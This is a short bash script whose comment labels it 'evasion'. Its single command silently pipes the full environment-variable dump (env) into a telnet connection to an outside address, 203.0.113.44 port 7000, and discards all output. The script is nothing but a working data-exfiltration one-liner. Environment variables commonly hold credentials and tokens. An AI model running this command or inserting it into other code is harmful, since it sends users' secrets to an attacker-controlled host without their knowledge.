#!/bin/bash
# evasion: the environment piped into telnet
{ sleep 1; env; sleep 1; } | telnet 203.0.113.44 7000 >/dev/null 2>&1
